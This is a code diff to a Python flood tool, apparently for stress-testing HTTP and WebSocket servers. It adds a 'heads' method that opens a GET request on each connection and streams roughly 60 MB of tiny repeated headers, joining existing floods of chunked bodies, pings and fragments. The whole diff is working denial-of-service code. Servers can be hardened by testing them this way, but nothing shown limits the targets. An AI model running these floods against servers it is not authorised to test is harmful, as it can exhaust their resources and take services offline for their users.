@@ -28,6 +28,7 @@ CHUNKED = (
     "Transfer-Encoding: chunked\r\n\r\n"
 )
 CHUNK = b"1\r\n \r\n"
+HEADER = b"a: b\r\n"
 PING = b"\x89\x80\0\0\0\0"
 FIRST, FRAGMENT = b"\x01\x80\0\0\0\0", b"\x00\x80\0\0\0\0"
 
@@ -69,6 +70,14 @@ class Flood:
                 self.send(sock, CHUNK * 500_000)
                 sock.recv(1 << 16)
 
+    def heads(self) -> None:
+        """Send heads of 60 MB in short headers."""
+        for sock in self.opened():
+            with contextlib.suppress(OSError):
+                self.send(sock, f"GET / HTTP/1.1\r\nHost: {self._host}\r\n".encode())
+                for _ in range(1_000):
+                    self.send(sock, HEADER * 10_000)
+
     def frames(self, first: bytes, more: bytes) -> None:
         for sock in self.opened():
             with contextlib.suppress(OSError):
@@ -104,6 +113,7 @@ class Flood:
 
 FLOODS: dict[str, Callable[[Flood], None]] = {
     "chunks": Flood.chunks,
+    "heads": Flood.heads,
     "pings": Flood.pings,
     "fragments": Flood.fragments,
     "bare": Flood.bare,
